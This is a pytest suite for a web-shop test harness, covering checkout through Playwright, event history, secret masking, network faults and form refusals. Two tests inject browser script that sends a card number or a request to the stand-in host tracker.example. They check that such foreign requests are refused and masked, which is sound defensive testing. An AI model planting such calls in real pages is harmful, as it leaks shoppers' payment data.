"""A window in front of the running shop: what it writes down, what it refuses, and what it says when nothing comes."""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path

import pytest
from playwright.sync_api import Browser

from harness import stack
from harness.browser import network_faults, window
from harness.checkouts import Refused
from harness.commands.up import for_people
from harness.config import profile
from harness.core.cards import card
from harness.core.failure import Failure
from harness.core.history import History
from harness.core.masking import sightings
from harness.shop.shop import Shop
from harness.shopper.browser import BrowserBuyer
from harness.stack.base.stack import Stack

VISA, DECLINED = "4242424242424242", "4000000000000002"


@pytest.fixture(scope="module")
def running(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Stack]:
    """The reference shop."""
    with stack.start("embedded", profile.load(), seed=1, logs=tmp_path_factory.mktemp("stack")) as started:
        yield started


@pytest.fixture
def shop(running: Stack, browser: Browser, request: pytest.FixtureRequest) -> Iterator[Shop]:
    """A shop of this test alone."""
    opened = Shop(running, History(), 1, request.node.nodeid)
    yield opened
    opened.close()


def at_checkout(shop: Shop) -> BrowserBuyer:
    """Ada in front of the checkout page."""
    ada = shop.browser_shopper()
    ada.has(shop.product())
    ada.go("checkout")
    return ada


def codes(failures: list[Failure]) -> list[str]:
    """What was found."""
    return [failure.code for failure in failures]


def test_the_history_is_an_api_runs(shop: Shop) -> None:
    """The judges need not know how a shopper reached the checkout; no secret is written down."""
    ada = at_checkout(shop)
    paid = ada.pay_here(card(VISA))
    events = shop.history.events
    (confirmed,) = shop.history.of(kind="ok", operation="confirm_payment")
    assert (confirmed.actor, confirmed.data["system"]) == ("stripe.js", "stripe")
    assert confirmed.data["payment_intent_id"] == paid.payment.id
    (settled,) = shop.history.of(kind="ok", operation="settle")
    assert (settled.data["user_id"], settled.data["system"]) == (ada.key, "checkout")
    invoke = events[settled.data["invoke"]]
    assert (invoke.kind, invoke.data["payment_intent_id"], invoke.actor) == ("invoke", paid.payment.id, settled.actor)
    assert invoke.actor == f"Ada {ada.email}"
    assert [payment.id for payment in ada.payments] == [paid.payment.id]
    assert {"wanted", "begun", "told"} <= {event.operation for event in shop.history.of(kind="fact")}
    assert sightings(shop.history.to_jsonl()) == []
    assert shop.close_and_judge() == []


@pytest.mark.parametrize("named", ["127.0.0.1", "localhost"])
def test_a_shop_that_is_kept_for_people_is_watched_too(
    browser: Browser, tmp_path: Path, request: pytest.FixtureRequest, named: str
) -> None:
    """Its pages name the stand-in of Stripe.js themselves, by any name of this machine: compose's, and that of `up`."""
    checkout = for_people(profile.load(), "emulator")
    with stack.start("embedded", checkout, seed=1, logs=tmp_path) as started:
        elsewhere = replace(started, stripe_url=started.stripe_url.replace("127.0.0.1", named))
        shop = Shop(elsewhere, History(), 1, request.node.nodeid)
        ada = shop.browser_shopper()
        ada.has(shop.product())
        with network_faults.cut(ada.window, network_faults.SCRIPT, "Stripe.js"):
            ada.go("checkout")
            again = ada.see("again")
        again.click()
        with network_faults.held_up(ada.window, network_faults.CONFIRM, "the confirmation") as held:
            ada.type_card(card(VISA))
            ada.press_pay()
            held.wait()
            held.go_on()
            ada.comes_to_an_end()
        paid = ada.purchase()
        (confirmed,) = shop.history.of(kind="ok", operation="confirm_payment")
        assert (confirmed.data["system"], confirmed.data["payment_intent_id"]) == ("stripe", paid.payment.id)
        assert shop.close_and_judge() == []


def test_an_answer_is_written_down_before_the_page_has_it(shop: Shop) -> None:
    ada = at_checkout(shop)
    ada.type_card(card(VISA))
    with network_faults.answer_lost(ada.window, network_faults.CONFIRM, "the confirmation"):
        ada.press_pay()
        ada.comes_to_an_end()
    (lost,) = shop.history.of(kind="info")
    assert (lost.operation, lost.data["lost"]) == ("confirm_payment", "the answer was lost on its way to the browser")
    assert ada.window.traffic.of("confirm_payment") == []


def test_somebody_else_is_not_asked(shop: Shop) -> None:
    """Whatever a page asks of another host is refused, and fails the case; the address is told without secrets."""
    ada = at_checkout(shop)
    ada.page.evaluate("() => { window.open('https://tracker.example/?card=4242424242424242') }")
    ada.window.until(lambda: bool(ada.window.traffic.refused), "the request to be refused")
    (failure,) = [one for one in shop.close_and_judge() if one.code == "foreign_request"]
    assert failure.however == ("https://tracker.example/?card=4242…4242",)


def test_a_policy_that_is_broken_fails_the_case(shop: Shop) -> None:
    """The shop's own Content-Security-Policy stops what its pages have no reason to ask, and is heard."""
    ada = at_checkout(shop)
    ada.page.evaluate("fetch('https://tracker.example/').catch(() => 0)")
    ada.window.until(lambda: bool(ada.window.errors), "the policy to be broken")
    assert "page_error" in codes(shop.close_and_judge())


def test_a_page_that_throws_fails_the_case(shop: Shop) -> None:
    ada = at_checkout(shop)
    ada.page.evaluate("() => { setTimeout(() => { throw new Error('the pages broke') }) }")
    ada.window.until(lambda: bool(ada.window.errors), "the error to be heard")
    (failure,) = [one for one in shop.close_and_judge() if one.code == "page_error"]
    assert "the pages broke" in failure.however[0]


def test_what_does_not_come_is_told_with_what_is_there(shop: Shop, monkeypatch: pytest.MonkeyPatch) -> None:
    ada = at_checkout(shop)
    ada.type_card(card(VISA))
    ada.window.context.set_default_timeout(100)
    monkeypatch.setattr(window, "WAIT_MS", 100)
    with pytest.raises(Failure, match="Waited in vain for that it is paid") as raised:
        _ = ada.receipt
    assert "Pay Now" in raised.value.however[0]
    with pytest.raises(Failure, match="did not come to /orders"):
        ada.window.at("/orders")
    with pytest.raises(Failure, match="Waited in vain for snow"):
        ada.window.until(lambda: False, "snow")
    with pytest.raises(Failure, match="No page sent orders"):
        ada.window.last_answer("orders")


def test_a_message_of_an_earlier_attempt_is_not_taken_for_the_next_ones(shop: Shop) -> None:
    ada = at_checkout(shop)
    ada.pay_here(card(DECLINED))
    ada.type_card(card(VISA))
    with network_faults.held_up(ada.window, network_faults.CONFIRM, "the confirmation") as held:
        ada.press_pay()
        assert ada.message == ""
        held.wait()
        held.go_on()
        assert ada.receipt["payment"] == ada.payments[0].id


def test_after_the_form_the_next_page_is_there(shop: Shop) -> None:
    """Whoever goes on at once is not overtaken by the page that the form leads to."""
    ada = shop.browser_shopper(member=False)
    ada.sign_up()
    assert ada.page.url == f"{ada.window.url}/products"
    assert ada.page.evaluate("document.readyState") == "complete"


def test_a_form_that_is_refused_stays(shop: Shop) -> None:
    bob = shop.browser_shopper("Bob", signed_in=False)
    assert bob.email
    with pytest.raises(Refused) as refused:
        bob.sign_up()
    assert refused.value.answer.status == 409
    assert bob.page.url == f"{bob.window.url}/register"


def test_a_bank_knows_three_answers(shop: Shop) -> None:
    with pytest.raises(ValueError, match="got 'sing'"):
        at_checkout(shop).answer_bank("sing")


def test_what_pages_do_not_offer_is_asked_at_the_adapter(shop: Shop) -> None:
    """Both are one person: what is done here is seen there."""
    ada, product = shop.browser_shopper(), shop.product()
    ada.add(product, 2)
    assert ada.api.cart().quantities() == {product.id: 2}
    ada.remove(product)
    assert ada.cart().lines == ()
    ada.api.add(product)
    paid = ada.pay(card(VISA))
    assert paid.order is not None
    assert ada.refund(paid.order, 1) == 1
    assert [order.refunded for order in ada.orders()] == [1]


def test_what_the_form_refuses_is_refused(shop: Shop) -> None:
    ada = shop.browser_shopper(signed_in=False)
    with pytest.raises(Refused) as refused:
        ada.sign_in("not the password")
    assert refused.value.answer.status == 401
    ada.sign_in()
    ada.window.until(lambda: "/login" not in ada.page.url, "the next page")
